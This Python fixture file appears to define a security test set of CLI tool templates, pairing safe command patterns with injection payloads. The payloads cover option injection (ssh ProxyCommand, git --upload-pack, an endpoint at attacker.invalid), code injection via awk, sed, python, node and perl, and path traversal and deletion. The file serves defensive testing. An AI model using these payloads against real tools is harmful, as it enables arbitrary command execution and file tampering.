"""Tool definitions for blind set A. Each tool: name, commands, category, inputs,
payload/check (unsafe, broken) or benign/expect (safe)."""
import json
S = {"type": "string"}
MANUALS = {}
VARIABLES = {}
_cur = None

def manual(name):
    global _cur
    _cur = name
    MANUALS[name] = []

def T(name, cmds, cat, inputs=(), payload=None, check=None, benign=None, expect=None, idiom="",
      env=None, wd=None, inherit=None, attack=None, opt_ok=False, desc=None, append=None):
    if isinstance(cmds, str):
        cmds = [cmds]
    import re
    for k in sorted(inputs, key=len, reverse=True):
        cmds = [re.sub("UTCP_ARG_" + k + "(?![A-Za-z0-9_])", "UTCP_ARG_" + k + "_UTCP_END", c) for c in cmds]
    for c in cmds:
        for m in re.finditer(r"UTCP_ARG_(\w+?)_UTCP_END", c):
            assert m.group(1) in inputs, (name, m.group(1))
        assert "UTCP_ARG_" not in re.sub(r"UTCP_ARG_\w+?_UTCP_END", "", c), (name, c)
    steps = []
    for i, c in enumerate(cmds):
        st = {"command": c}
        if append is not None:
            st["append_to_final_output"] = append[i]
        elif len(cmds) > 1:
            st["append_to_final_output"] = (i == len(cmds) - 1)
        steps.append(st)
    ct = {"call_template_type": "cli", "name": name, "commands": steps}
    if env is not None: ct["env_vars"] = env
    if wd is not None: ct["working_dir"] = wd
    if inherit is not None: ct["inherit_env_vars"] = inherit
    props = {k: dict(S, description=k.replace("_", " ")) for k in inputs}
    MANUALS[_cur].append(dict(id=f"{_cur}_{name}", name=name, cat=cat, payload=payload, check=check,
        benign=benign, expect=expect, idiom=idiom, attack=attack, opt_ok=opt_ok,
        json={"name": name, "description": desc or idiom, "inputs": {"type": "object", "properties": props,
              "required": list(inputs)}, "outputs": {"type": "string"}, "tags": [_cur], "tool_call_template": ct}))
    if payload is None and cat != "safe":
        raise ValueError(name)

def tool_json(t):
    return t["json"]

# ---- check helpers ----
def W(path):
    return lambda c: (c.exists(path), f"file {path} was written")
def GONE(path):
    return lambda c: (not c.exists(path), f"{path} was deleted")
def OPT(s):
    return lambda c: (c.arg(s), f"stub argv shows the value as its own option argument {s!r}")
def SPLIT(*parts):
    return lambda c: (all(c.arg(p) for p in parts), f"stub argv shows one value split into {list(parts)}")
def NOTFOUND():
    return lambda c: (c.exc is not None and "VariableNotFound" in type(c.exc).__name__ + repr(c.exc),
                      f"call raises {c.exc!r}"[:200])
def OUTHAS(s, why):
    return lambda c: (c.exc is None and s in c.out, f"{why}; output: {c.out[:120]!r}")
def OUTLACKS(s, why):
    return lambda c: (c.exc is not None or s not in c.out, f"{why}; output: {c.out[:150]!r} exc={c.exc!r}"[:300])
def E(s):
    return lambda c: (c.exc is None and s in c.out, f"output contains {s!r}")
def EANY():
    return lambda c: (c.exc is None, "call returns without error")
X = "x;touch CANARY"

# ======================= vcs: git =======================
manual("vcs")
T("git_log_range", "git -C repo log --oneline UTCP_ARG_rev", "option", ["rev"],
  payload={"rev": "--output=/tmp/blindA_out_gitlog"}, check=W("/tmp/blindA_out_gitlog"),
  idiom="git log with bare revision: --output= writes a file")
T("git_log_safe", "git -C repo log --oneline --end-of-options UTCP_ARG_rev --", "safe", ["rev"],
  benign={"rev": "HEAD"}, expect=E("second"), idiom="git log with --end-of-options")
T("git_diff_ref", "git -C repo diff --stat UTCP_ARG_base HEAD", "option", ["base"],
  payload={"base": "--output=/tmp/blindA_out_gitdiff"}, check=W("/tmp/blindA_out_gitdiff"),
  idiom="git diff base ref becomes --output")
T("git_show_tag", "git -C repo show --stat \"refs/tags/UTCP_ARG_tag\"", "safe", ["tag"],
  benign={"tag": "v1.0"}, expect=E("second"), idiom="git show with refs/tags/ prefix")
T("git_fetch_remote", "git -C repo fetch UTCP_ARG_remote", "exec", ["remote"],
  payload={"remote": "--upload-pack=touch CANARY;git-upload-pack"},
  idiom="git fetch remote name becomes --upload-pack")
T("git_fetch_safe", "git -C repo fetch --quiet -- UTCP_ARG_remote && echo fetched", "safe", ["remote"],
  benign={"remote": "origin"}, expect=E("fetched"), idiom="git fetch with --")
T("git_grep", "git -C repo grep -n -e UTCP_ARG_pattern -- .", "safe", ["pattern"],
  benign={"pattern": "two"}, expect=E("README.md"), idiom="git grep -e pattern --")
T("git_commit_msg", ["cd repo && echo change >> README.md && git commit -qam \"UTCP_ARG_message\" && git log -1 --format=%s"],
  "safe", ["message"], benign={"message": "fix: typo"}, expect=E("fix: typo"),
  idiom="commit message inside double quotes")
T("git_commit_bashc", "bash -c 'cd repo && echo x >> README.md && git commit -qam \"UTCP_ARG_message\" && git log -1 --format=%s'",
  "exec", ["message"], payload={"message": "$(touch CANARY)"},
  idiom="commit message inside bash -c single-quoted script")
T("git_blame_line", "git -C repo blame -L UTCP_ARG_line,+1 -- README.md", "safe", ["line"],
  benign={"line": "2"}, expect=E("two"), idiom="blame -L attached value")
T("git_author_filter", "git -C repo log --format='%h %an' --author=UTCP_ARG_author", "safe", ["author"],
  benign={"author": "t"}, expect=E(" t"), idiom="--author= attached option value")
T("git_archive_out", "mkdir -p builds && git -C repo archive -o \"../builds/UTCP_ARG_name.tar\" HEAD && echo ok", "write", ["name"],
  payload={"name": "../../../../../tmp/blindA_out_arch"}, check=W("/tmp/blindA_out_arch.tar"),
  idiom="git archive -o builds/NAME.tar traversal")
T("git_branch_list", ["git -C repo branch --list", "echo \"branches: $CMD_0_OUTPUT\""], "broken", [],
  payload={}, check=NOTFOUND(), idiom="$CMD_0_OUTPUT substituted by client")
T("git_shortlog_awk", "git -C repo log --format='%an %h' | awk '{print $1}' | sort | uniq -c", "broken", [],
  payload={}, check=NOTFOUND(), idiom="awk $1 substituted by client")
T("git_eval_alias", "eval \"git -C repo log --oneline -n UTCP_ARG_count\"", "exec", ["count"],
  payload={"count": "1; touch CANARY"}, idiom="eval of a git command line")
T("git_checkout_branch", "git -C repo checkout -q -b \"feature/UTCP_ARG_branch\" && git -C repo branch --show-current",
  "safe", ["branch"], benign={"branch": "login"}, expect=E("feature/login"), idiom="checkout -b with prefix")
T("git_clone_dest", "git clone -q origin.git \"checkouts/UTCP_ARG_dir\" && echo cloned", "write", ["dir"],
  payload={"dir": "../../../../../tmp/blindA_out_clone"}, check=W("/tmp/blindA_out_clone/README.md"),
  idiom="clone into checkouts/DIR traversal")
T("git_config_get", "git -C repo config --get \"user.UTCP_ARG_key\"", "safe", ["key"],
  benign={"key": "name"}, expect=E("t"), idiom="config key with prefix")

# ======================= net: curl wget openssl ssh scp rsync =======================
manual("net")
T("curl_get_path", "curl -fsS \"http://127.0.0.1:8765/UTCP_ARG_path\"", "safe", ["path"],
  benign={"path": "data.json"}, expect=E("demo"), idiom="curl URL with path in quotes")
T("curl_query", "curl -fsS --get --data-urlencode \"q=UTCP_ARG_q\" http://127.0.0.1:8765/data.json", "safe", ["q"],
  benign={"q": "a b"}, expect=E("demo"), idiom="curl --data-urlencode")
T("curl_download_to", "curl -fsS -o \"downloads/UTCP_ARG_name\" \"http://127.0.0.1:8765/data.json\" && echo saved", "write", ["name"],
  payload={"name": "../../../../../tmp/blindA_out_curl"}, check=W("/tmp/blindA_out_curl"),
  idiom="curl -o downloads/NAME traversal")
T("curl_fetch_url", "curl -fsS UTCP_ARG_url http://127.0.0.1:8765/site/index.html", "option", ["url"],
  payload={"url": "-o/tmp/blindA_out_curlopt"}, check=W("/tmp/blindA_out_curlopt"),
  idiom="curl extra url arg becomes -o")
T("curl_header_sh", "sh -c \"curl -fsS -H 'X-Request-Id: UTCP_ARG_rid' http://127.0.0.1:8765/data.json\"", "exec", ["rid"],
  payload={"rid": "1' http://127.0.0.1:8765/; touch CANARY; echo '"}, idiom="curl line inside sh -c double quotes")
T("curl_auth_var", "curl -fsS -H \"Authorization: Bearer $API_TOKEN\" \"http://127.0.0.1:8765/UTCP_ARG_path\"", "safe", ["path"],
  benign={"path": "data.json"}, expect=E("demo"), idiom="client variable $API_TOKEN configured")
T("curl_auth_env", "curl -fsS -H \"Authorization: Bearer ${GH_TOKEN:-}\" \"http://127.0.0.1:8765/UTCP_ARG_path\"", "safe", ["path"],
  benign={"path": "data.json"}, expect=E("demo"), env={"GH_TOKEN": "abc"}, idiom="token from env_vars via ${X:-}")
T("curl_token_missing", "curl -fsS -H \"Authorization: token $GITHUB_TOKEN\" http://127.0.0.1:8765/UTCP_ARG_path", "broken", ["path"],
  payload={"path": "data.json"}, check=NOTFOUND(), idiom="$GITHUB_TOKEN expected from env but client substitutes")
T("wget_mirror", "wget -q -O - -- \"http://127.0.0.1:8765/UTCP_ARG_page\"", "safe", ["page"],
  benign={"page": "site/index.html"}, expect=E("hello"), idiom="wget -O - -- url")
T("wget_save", "wget -q -P downloads \"http://127.0.0.1:8765/data.json\" UTCP_ARG_extra_url; ls downloads", "option", ["extra_url"],
  payload={"extra_url": "--output-document=/tmp/blindA_out_wget"}, check=W("/tmp/blindA_out_wget"),
  idiom="wget second URL arg becomes --output-document")
T("openssl_cert_subject", "openssl x509 -in UTCP_ARG_cert -noout -subject", "safe", ["cert"],
  benign={"cert": "cert.pem"}, expect=E("demo"), opt_ok=True, idiom="openssl -in value")
T("openssl_hash", "printf '%s' UTCP_ARG_text | openssl dgst -sha256", "safe", ["text"],
  benign={"text": "abc"}, expect=E("ba7816bf"), idiom="printf into openssl dgst")
T("openssl_genkey", "mkdir -p keys && openssl genrsa -out \"keys/UTCP_ARG_name.key\" 1024 2>/dev/null && echo ok", "write", ["name"],
  payload={"name": "../../../../../tmp/blindA_out_key"}, check=W("/tmp/blindA_out_key.key"),
  idiom="openssl genrsa -out keys/NAME traversal")
T("ssh_uptime", "ssh UTCP_ARG_host uptime", "option", ["host"],
  payload={"host": "-oProxyCommand=touch CANARY"}, check=OPT("-oProxyCommand=touch /tmp/blindA_canary_net_ssh_uptime"),
  idiom="ssh host value becomes -oProxyCommand")
T("ssh_safe", "ssh -o BatchMode=yes -- UTCP_ARG_host uptime", "safe", ["host"],
  benign={"host": "web1"}, expect=E("stub ssh"), idiom="ssh -- host")
T("scp_upload", "scp -q UTCP_ARG_file deploy@web1:/srv/uploads/", "option", ["file"],
  payload={"file": "-oProxyCommand=touch CANARY"}, check=OPT("-oProxyCommand=touch /tmp/blindA_canary_net_scp_upload"),
  idiom="scp source value becomes option")
T("rsync_push", "rsync -az site/ UTCP_ARG_dest", "option", ["dest"],
  payload={"dest": "--rsh=touch CANARY"}, check=OPT("--rsh=touch /tmp/blindA_canary_net_rsync_push"),
  idiom="rsync destination becomes --rsh")
VARIABLES["net"] = {"net_API_TOKEN": "tok-123"}

# ======================= data: jq yq awk sed sort cut python/perl/node =======================
manual("data")
T("jq_field", "jq -r \".UTCP_ARG_field\" data.json", "safe", ["field"],
  benign={"field": "name"}, expect=E("demo"), idiom="jq filter built from field (no exec possible in jq)")
T("jq_arg_ref", "jq -c --arg ref UTCP_ARG_tag '.items[] | select(.tag == $ref)' data.json", "safe", ["tag"],
  benign={"tag": "b"}, expect=E('"id": 2'), idiom="jq --arg named ref ($ref string skipped by client)")
T("jq_arg_var", "jq -c --arg t UTCP_ARG_tag '.items[] | select(.tag == $t)' data.json", "broken", ["tag"],
  payload={"tag": "b"}, check=NOTFOUND(), idiom="jq --arg $t substituted by client")
T("yq_get", "yq -r \".UTCP_ARG_key\" config.yaml", "safe", ["key"],
  benign={"key": "image"}, expect=E("web:1.0"), idiom="yq filter from key")
T("awk_program_sq", "awk '/UTCP_ARG_pattern/ {n++} END {print n+0}' notes.txt", "exec", ["pattern"],
  payload={"pattern": "x/ {} BEGIN {system(\"touch CANARY\")} /y"}, idiom="awk program with placeholder in single quotes")
T("awk_v_safe", "awk -v want=UTCP_ARG_n 'NR == want' notes.txt", "safe", ["n"],
  benign={"n": "2"}, expect=E("beta"), idiom="awk -v variable")
T("awk_dq_program", "awk \"BEGIN { printf \\\"%d\\\\n\\\", UTCP_ARG_a * 2 }\"", "exec", ["a"],
  payload={"a": "system(\"touch CANARY\")"}, idiom="awk program in double quotes")
T("awk_column", "awk -F, 'NR>1 {print $2}' data/people.csv | grep -c UTCP_ARG_name", "broken", ["name"],
  payload={"name": "ann"}, check=NOTFOUND(), idiom="awk $2 field substituted by client")
T("sed_replace", "sed \"s/UTCP_ARG_from/UTCP_ARG_to/g\" notes.txt", "exec", ["from", "to"],
  payload={"from": "^.*/touch \\/tmp\\/blindA_canary_data_sed_replace/e;#", "to": "x"}, idiom="sed s/// with values (GNU e flag)")
T("sed_write_flag", "sed -n \"/UTCP_ARG_pattern/p\" logs/app.log", "write", ["pattern"],
  payload={"pattern": "ERROR/w /tmp/blindA_out_sedw\n#"}, check=W("/tmp/blindA_out_sedw"),
  idiom="sed address regex; w command writes a file")
T("sed_line_guard", "case UTCP_ARG_n in ''|*[!0-9]*) echo 'n must be a number';; *) sed -n \"UTCP_ARG_n p\" notes.txt;; esac",
  "safe", ["n"], benign={"n": "3"}, expect=E("gamma"), idiom="case guard before sed")
T("sed_inplace_file", "mkdir -p reports && cp notes.txt reports/n.txt && sed -i 's/beta/BETA/' \"reports/UTCP_ARG_file\" && echo done",
  "write", ["file"], payload={"file": "../notes.txt"}, check=lambda c: ("BETA" in open(c.cwd + "/notes.txt").read(), "notes.txt outside reports/ was modified"),
  idiom="sed -i on reports/FILE traversal")
T("sort_uniq", "sort UTCP_ARG_file | uniq -c | sort -rn | head -3", "option", ["file"],
  payload={"file": "-o/tmp/blindA_out_sort"}, check=W("/tmp/blindA_out_sort"),
  idiom="sort file value becomes -o")
T("sort_safe", "sort -- UTCP_ARG_file | uniq -c | sort -rn | head -3", "safe", ["file"],
  benign={"file": "notes.txt"}, expect=E("beta"), idiom="sort --")
T("cut_column", "cut -d, -f2 data/people.csv | grep -F -x -- UTCP_ARG_name", "safe", ["name"],
  benign={"name": "bob"}, expect=E("bob"), idiom="cut | grep -F -x --")
T("grep_count", "grep -c UTCP_ARG_word notes.txt", "option", ["word"],
  payload={"word": "--file=/tmp/blindA_fix_none"}, check=lambda c: ("blindA_fix_none" in c.out, "pattern value read as --file option (reads an unintended file)"),
  idiom="grep pattern without -e")
T("python_c_dq", "python3 -c \"import json; print(json.dumps({'q': 'UTCP_ARG_q'}))\"", "exec", ["q"],
  payload={"q": "x'})); import os; os.system('touch CANARY'); print(str({'a': 'b"}, idiom="python -c code with value in quotes")
T("python_argv", "python3 -c 'import json,sys; print(json.dumps({\"q\": sys.argv[1]}))' UTCP_ARG_q", "safe", ["q"],
  benign={"q": "hello"}, expect=E("hello"), idiom="python -c with sys.argv")
T("python_heredoc_safe", "python3 - UTCP_ARG_csv <<'PY'\nimport csv, sys\nrows = list(csv.DictReader(open(sys.argv[1])))\nprint(len(rows), 'rows')\nPY\n", "safe", ["csv"],
  benign={"csv": "data/people.csv"}, expect=E("2 rows"), idiom="python heredoc script with argv")
T("python_heredoc_eof", "python3 <<EOF\nprint(\"UTCP_ARG_msg\".upper())\nEOF\n", "exec", ["msg"],
  payload={"msg": "\"); import os; os.system(\"touch CANARY\"); print(\""}, idiom="unquoted heredoc python source with value")
T("perl_e_sq", "perl -ne 'print if /UTCP_ARG_re/' notes.txt", "exec", ["re"],
  payload={"re": "x/; BEGIN { system(\"touch CANARY\") } /y"}, idiom="perl -ne regex with placeholder")
T("perl_shift", "perl -le 'print uc shift' UTCP_ARG_s", "exec", ["s"],
  payload={"s": "-e;system(\"touch CANARY\")"}, idiom="perl -e script then value: a second -e is appended to the program")
T("perl_argv_var", "perl -le 'print length($ARGV[0])' UTCP_ARG_s", "broken", ["s"],
  payload={"s": "abc"}, check=NOTFOUND(), idiom="perl $ARGV substituted by client")
T("node_eval", "node -e \"console.log(JSON.stringify('UTCP_ARG_s'.split(',')))\"", "exec", ["s"],
  payload={"s": "x'.split(','))); require('child_process').execSync('touch CANARY'); console.log(('y"}, idiom="node -e with value in JS string")
T("node_argv", "node -e 'console.log(process.argv[1].split(\",\").length)' UTCP_ARG_s", "exec", ["s"],
  payload={"s": "--eval=require('fs').writeFileSync('CANARY','')"}, idiom="node -e then value: node still parses --eval after the script")
T("csv_python_split", "python3 -c 'import sys; [print(x.strip()) for x in sys.argv[1].split(\",\")]' UTCP_ARG_list", "safe", ["list"],
  benign={"list": "a, b"}, expect=E("b"), idiom="python split list argument")

# ======================= files: find xargs tar zip dd tee cp base64 =======================
manual("files")
T("find_logs", "find UTCP_ARG_dir -name '*.log' -mtime -30", "option", ["dir"],
  payload={"dir": "-delete"}, check=GONE("notes.txt"), idiom="find start dir becomes -delete")
T("find_safe", "find ./UTCP_ARG_dir -type f -name '*.log'", "safe", ["dir"],
  benign={"dir": "logs"}, expect=E("app.log"), idiom="find ./DIR prefix")
T("find_name", "find logs -type f -name UTCP_ARG_glob -print", "safe", ["glob"],
  benign={"glob": "*.log"}, expect=E("app.log"), idiom="find -name quoted pattern")
T("find_exec_sh", "find logs -name '*.log' -exec sh -c 'grep -c UTCP_ARG_level \"{}\"' \\;", "exec", ["level"],
  payload={"level": "x /dev/null; touch CANARY; #"}, idiom="find -exec sh -c with value in script")
T("xargs_grep", "find logs -name '*.log' -print0 | xargs -0 grep -l -F -e UTCP_ARG_text --", "safe", ["text"],
  benign={"text": "ERROR"}, expect=E("app.log"), idiom="find -print0 | xargs -0 grep -e")
T("xargs_rm_containers", "echo UTCP_ARG_container | xargs docker rm -f", "split", ["container"],
  payload={"container": "web1 db1"}, check=SPLIT("web1", "db1"), idiom="echo value | xargs splits on blanks")
T("xargs_sh_i", "printf '%s\\n' UTCP_ARG_name | xargs -I{} sh -c 'echo checking {}; ls -d {}'", "exec", ["name"],
  payload={"name": "x; touch CANARY"}, idiom="xargs -I{} sh -c with {} in code")
T("tar_extract_member", "tar -xf archive.tar UTCP_ARG_member && echo extracted", "exec", ["member"],
  payload={"member": "--to-command=touch CANARY"}, idiom="tar member becomes --to-command")
T("tar_extract_safe", "mkdir -p out && tar -xf archive.tar -C out -- UTCP_ARG_member && ls out", "safe", ["member"],
  benign={"member": "a.txt"}, expect=E("a.txt"), idiom="tar -- member")
T("tar_backup", "mkdir -p backups && tar -czf backups/site.tgz site UTCP_ARG_extra && tar -tzf backups/site.tgz", "option", ["extra"],
  payload={"extra": "--remove-files"}, check=GONE("site/index.html"),
  idiom="tar create path becomes option")
T("tar_into_dir", "mkdir -p extracted && tar -xf archive.tar -C \"extracted/UTCP_ARG_sub\" 2>/dev/null || { mkdir -p \"extracted/UTCP_ARG_sub\" && tar -xf archive.tar -C \"extracted/UTCP_ARG_sub\"; }; echo ok",
  "write", ["sub"], payload={"sub": "../../../../../tmp/blindA_out_tar"}, check=W("/tmp/blindA_out_tar/a.txt"),
  idiom="tar -C extracted/SUB traversal")
T("unzip_to", "unzip -o -q archive.zip -d \"uploads/UTCP_ARG_dir\" && echo ok", "write", ["dir"],
  payload={"dir": "../../../../../tmp/blindA_out_unzip"}, check=W("/tmp/blindA_out_unzip/a.txt"),
  idiom="unzip -d uploads/DIR traversal")
T("zip_test", "zip -q -T backups.zip notes.txt UTCP_ARG_file && echo zipped", "exec", ["file"],
  payload={"file": "-TT=touch CANARY;true"}, idiom="zip file value becomes -TT test command")
T("zip_named", "zip -q \"backups/UTCP_ARG_name.zip\" notes.txt && echo ok", "write", ["name"],
  payload={"name": "../../../../../tmp/blindA_out_zip"}, check=W("/tmp/blindA_out_zip.zip"), idiom="zip backups/NAME traversal")
T("dd_image", "mkdir -p images && dd if=/dev/zero of=\"images/UTCP_ARG_name.img\" bs=1k count=4 status=none && echo created", "write", ["name"],
  payload={"name": "../../../../../tmp/blindA_out_dd"}, check=W("/tmp/blindA_out_dd.img"), idiom="dd of=images/NAME traversal")
T("dd_count", "dd if=/dev/zero of=disk.img bs=1k count=UTCP_ARG_kb status=none && ls -l disk.img", "safe", ["kb"],
  benign={"kb": "4"}, expect=E("4096"), idiom="dd count= attached operand")
T("tee_report", "mkdir -p reports && date -u +%F | tee \"reports/UTCP_ARG_name.txt\"", "write", ["name"],
  payload={"name": "../../../../../tmp/blindA_out_tee"}, check=W("/tmp/blindA_out_tee.txt"), idiom="tee reports/NAME traversal")
T("tee_append", "mkdir -p reports && printf '%s\\n' UTCP_ARG_line | tee -a reports/journal.txt", "safe", ["line"],
  benign={"line": "note 1"}, expect=E("note 1"), idiom="printf value | tee -a fixed file")
T("cp_backup", "mkdir -p backups && cp notes.txt \"backups/UTCP_ARG_name\" && echo copied", "write", ["name"],
  payload={"name": "../../../../../tmp/blindA_out_cp"}, check=W("/tmp/blindA_out_cp"), idiom="cp to backups/NAME traversal")
T("cp_basename", "mkdir -p backups && cp -- notes.txt \"backups/$(basename -- UTCP_ARG_name)\" && ls backups", "split", ["name"],
  payload={"name": "report final.txt"}, check=lambda c: ("report final.txt" not in c.out and "report" in c.out, f"placeholder inside $( ) in double quotes is emitted unquoted: basename got 2 args; ls: {c.out!r}"),
  idiom="basename guard inside \"$( )\" (tracker leaves value unquoted)")
T("cp_basename_safe", "mkdir -p backups && name=$(basename -- \"UTCP_ARG_name\") && cp -- notes.txt \"backups/${name:-}\" && ls backups", "safe", ["name"],
  benign={"name": "n1.txt"}, expect=E("n1.txt"), idiom="basename into variable then ${name:-}")
T("base64_encode", "printf '%s' UTCP_ARG_text | base64", "safe", ["text"],
  benign={"text": "hi"}, expect=E("aGk="), idiom="printf | base64")
T("base64_decode_to", "mkdir -p decoded && printf '%s' UTCP_ARG_b64 | base64 -d > \"decoded/UTCP_ARG_name\" && echo ok", "write", ["b64", "name"],
  payload={"b64": "aGk=", "name": "../../../../../tmp/blindA_out_b64"}, check=W("/tmp/blindA_out_b64"), idiom="base64 -d > decoded/NAME traversal")
T("mv_upload", "mkdir -p uploads && echo data > uploads/incoming.bin && mv uploads/incoming.bin \"uploads/UTCP_ARG_name\" && echo moved", "write", ["name"],
  payload={"name": "../../../../../tmp/blindA_out_mv"}, check=W("/tmp/blindA_out_mv"), idiom="mv to uploads/NAME traversal")
T("split_file", "mkdir -p parts && split -b 10 notes.txt \"parts/UTCP_ARG_prefix\" && ls parts", "write", ["prefix"],
  payload={"prefix": "../../../../../tmp/blindA_out_split"}, check=W("/tmp/blindA_out_splitaa"), idiom="split prefix traversal")
T("rm_upload", "rm -f \"uploads/UTCP_ARG_name\" && echo removed", "write", ["name"],
  payload={"name": "../notes.txt"}, check=GONE("notes.txt"), idiom="rm uploads/NAME traversal deletes outside")
T("ls_dir", "ls -la -- UTCP_ARG_dir", "safe", ["dir"], benign={"dir": "logs"}, expect=E("app.log"), idiom="ls --")
T("du_dir", "du -sh UTCP_ARG_dir", "option", ["dir"], payload={"dir": "--files0-from=/tmp/blindA_fix_none"},
  check=lambda c: ("blindA_fix_none" in c.out, "dir value parsed as du --files0-from option"), idiom="du dir without --")
T("for_files_loop", "for f in logs/*.log; do gzip -k \"$f\"; done; ls logs", "broken", [],
  payload={}, check=NOTFOUND(), idiom="loop variable $f substituted by client")
T("for_files_safe", "for f in logs/*.log; do gzip -k \"${f:-}\"; done; ls logs | grep -c -F -- UTCP_ARG_suffix", "safe", ["suffix"],
  benign={"suffix": ".gz"}, expect=E("1"), idiom="loop with ${f:-}")

# ======================= containers: docker kubectl helm (stubs log argv) =======================
manual("containers")
T("docker_run_image", "docker run --rm UTCP_ARG_image echo ok", "option", ["image"],
  payload={"image": "--privileged"}, check=OPT("--privileged"), idiom="docker run image becomes --privileged")
T("docker_run_env", "docker run --rm -e \"APP_ENV=UTCP_ARG_env\" alpine:3.19 env", "safe", ["env"],
  benign={"env": "prod"}, expect=E("stub docker"), idiom="docker -e NAME=value")
T("docker_logs", "docker logs --tail 100 UTCP_ARG_container", "option", ["container"],
  payload={"container": "--details"}, check=OPT("--details"), idiom="docker logs container becomes option")
T("docker_logs_safe", "docker logs --tail 100 -- UTCP_ARG_container", "safe", ["container"],
  benign={"container": "web"}, expect=E("stub docker"), idiom="docker logs --")
T("docker_stop_many", "docker stop $(echo UTCP_ARG_id)", "split", ["id"],
  payload={"id": "web1 db1"}, check=SPLIT("web1", "db1"), idiom="unquoted $(echo value)")
T("docker_build_tag", "docker build -t \"registry.local/app:UTCP_ARG_tag\" .", "safe", ["tag"],
  benign={"tag": "1.2"}, expect=E("stub docker"), idiom="docker build -t prefix:tag")
T("docker_inspect_fmt", "docker inspect --format '{{.State.Status}}' -- UTCP_ARG_name", "safe", ["name"],
  benign={"name": "web"}, expect=E("stub docker"), idiom="docker inspect --format template literal")
T("kubectl_get_pod", "kubectl get pod UTCP_ARG_pod -o json", "option", ["pod"],
  payload={"pod": "--kubeconfig=/tmp/evil.conf"}, check=OPT("--kubeconfig=/tmp/evil.conf"), idiom="kubectl pod name becomes --kubeconfig")
T("kubectl_logs_prefix", "kubectl logs \"pod/UTCP_ARG_pod\" --tail=50", "safe", ["pod"],
  benign={"pod": "web-1"}, expect=E("stub kubectl"), idiom="kubectl pod/NAME prefix")
T("kubectl_ns", "kubectl get pods -n UTCP_ARG_namespace", "safe", ["namespace"],
  benign={"namespace": "default"}, expect=E("stub kubectl"), opt_ok=True, idiom="kubectl -n value is option-argument")
T("kubectl_delete_out", ["printf '%s' UTCP_ARG_pod", "kubectl delete pod ${CMD_0_OUTPUT:-}"], "split", ["pod"],
  payload={"pod": "web-1 --all"}, check=SPLIT("web-1", "--all"), idiom="unquoted ${CMD_0_OUTPUT:-}")
T("kubectl_delete_quoted", ["printf '%s' UTCP_ARG_pod", "kubectl delete pod -- \"${CMD_0_OUTPUT:-}\""], "safe", ["pod"],
  benign={"pod": "web-1"}, expect=E("stub kubectl"), idiom="quoted ${CMD_0_OUTPUT:-} after --")
T("kubectl_ns_subst", "kubectl get pods -n \"$(kubectl config view --minify -o name UTCP_ARG_ctx)\"", "option", ["ctx"],
  payload={"ctx": "--kubeconfig=/tmp/evil.conf"}, check=OPT("--kubeconfig=/tmp/evil.conf"), idiom="placeholder in $( ) inside quotes")
T("kubectl_exec_tracker", "NS=\"$(kubectl get ns \"UTCP_ARG_ns\" -o name)\"; echo \"ns=${NS:-}\"", "split", ["ns"],
  payload={"ns": "prod staging"}, check=SPLIT("prod", "staging"), idiom="nested double quotes inside \"$( )\" (tracker misreads)")
T("kubectl_scale", "[[ UTCP_ARG_replicas -ge 0 ]] && kubectl scale deploy/web --replicas=UTCP_ARG_replicas", "exec", ["replicas"],
  payload={"replicas": "a[$(touch CANARY)]"}, idiom="[[ -ge ]] arithmetic on value")
T("kubectl_scale_safe", "[[ UTCP_ARG_replicas =~ ^[0-9]+$ ]] && kubectl scale deploy/web --replicas=UTCP_ARG_replicas || echo invalid", "safe", ["replicas"],
  benign={"replicas": "3"}, expect=E("stub kubectl"), idiom="regex guard then value")
T("helm_install", "helm upgrade --install UTCP_ARG_release ./chart", "option", ["release"],
  payload={"release": "--post-renderer=/tmp/evil.sh"}, check=OPT("--post-renderer=/tmp/evil.sh"), idiom="helm release becomes --post-renderer")
T("helm_install_safe", "case UTCP_ARG_release in [a-z]*) helm upgrade --install UTCP_ARG_release ./chart;; *) echo 'bad release name';; esac", "safe", ["release"],
  benign={"release": "web"}, expect=E("stub helm"), idiom="case guard first char")
T("kubectl_logs_comment", "kubectl logs deploy/UTCP_ARG_app --tail=20  # last lines only", "broken", ["app"],
  payload={"app": "web"}, check=OUTLACKS("stub kubectl", "trailing comment swallows the runtime's closing ')' and the script fails"),
  idiom="trailing # comment in a step")

# ======================= cloud: aws terraform gcloud vault (stubs) =======================
manual("cloud")
T("s3_upload", "aws s3 cp report.csv \"s3://reports-bucket/UTCP_ARG_key\"", "safe", ["key"],
  benign={"key": "2024/q1.csv"}, expect=E("stub aws"), idiom="aws s3 cp to s3://bucket/KEY")
T("s3_download", "aws s3 cp UTCP_ARG_uri downloads/", "option", ["uri"],
  payload={"uri": "--endpoint-url=http://attacker.invalid"}, check=OPT("--endpoint-url=http://attacker.invalid"), idiom="aws s3 cp source becomes --endpoint-url")
T("s3_ls_prefix", "aws s3 ls \"s3://logs-bucket/UTCP_ARG_prefix/\" --recursive", "safe", ["prefix"],
  benign={"prefix": "app"}, expect=E("stub aws"), idiom="s3 ls with bucket prefix")
T("ec2_ids", "aws ec2 stop-instances --instance-ids $(printf '%s' UTCP_ARG_ids)", "split", ["ids"],
  payload={"ids": "i-1 i-2"}, check=SPLIT("i-1", "i-2"), idiom="unquoted $(printf) for instance ids")
T("aws_profile_env", "aws sts get-caller-identity", "safe", [], benign={}, expect=E("stub aws"),
  env={"AWS_PROFILE": "readonly"}, idiom="no arguments; profile via env_vars")
T("aws_region_var", "aws --region $AWS_REGION s3 ls \"s3://UTCP_ARG_bucket\"", "broken", ["bucket"],
  payload={"bucket": "logs"}, check=NOTFOUND(), env={"AWS_REGION": "eu-west-1"}, idiom="$AWS_REGION from env_vars substituted by client first")
T("tf_plan_var", "terraform plan -input=false -var \"region=UTCP_ARG_region\"", "safe", ["region"],
  benign={"region": "eu-west-1"}, expect=E("stub terraform"), idiom="terraform -var name=value")
T("tf_workspace", "terraform workspace select UTCP_ARG_ws", "option", ["ws"],
  payload={"ws": "-or-create=true"}, check=OPT("-or-create=true"), idiom="workspace name becomes option")
T("tf_tfvars", "printf 'region = \"%s\"\\n' UTCP_ARG_region > auto.tfvars && terraform plan -var-file=auto.tfvars && cat auto.tfvars", "safe", ["region"],
  benign={"region": "us-east-1"}, expect=E("us-east-1"), idiom="printf into tfvars file")
T("tf_target", "terraform apply -auto-approve -target=UTCP_ARG_resource", "safe", ["resource"],
  benign={"resource": "aws_instance.web"}, expect=E("stub terraform"), idiom="-target= attached")
T("gcloud_ssh", "gcloud compute ssh UTCP_ARG_instance --command uptime", "option", ["instance"],
  payload={"instance": "--ssh-flag=-oProxyCommand=touch /tmp/x"}, check=OPT("--ssh-flag=-oProxyCommand=touch /tmp/x"), idiom="gcloud instance becomes --ssh-flag")
